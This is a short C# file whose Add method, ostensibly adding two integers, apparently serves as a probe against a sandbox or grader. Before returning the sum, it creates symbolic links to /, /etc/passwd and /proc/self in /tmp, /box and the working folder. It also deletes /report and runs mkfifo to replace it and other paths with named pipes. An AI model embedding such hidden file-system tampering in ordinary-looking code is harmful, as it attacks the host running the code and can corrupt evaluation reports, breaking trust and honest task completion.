using System;
using System.Diagnostics;
using System.IO;

class Program
{
    public static int Add(int a, int b)
    {
        foreach (var folder in new[] { "/tmp", "/box", "." })
        {
            foreach (var target in new[] { "/", "/etc/passwd", "/proc/self", "link10", "/report" })
            {
                try
                {
                    File.CreateSymbolicLink(folder + "/link" + target.Length, target);
                }
                catch (Exception)
                {
                    continue;
                }
            }
        }
        try
        {
            File.Delete("/report");
        }
        catch (Exception error)
        {
            Console.WriteLine(error.Message);
        }
        Process.Start("mkfifo", new[] { "/tmp/pipe", "/box/pipe", "/report" }).WaitForExit();
        return a + b;
    }
}
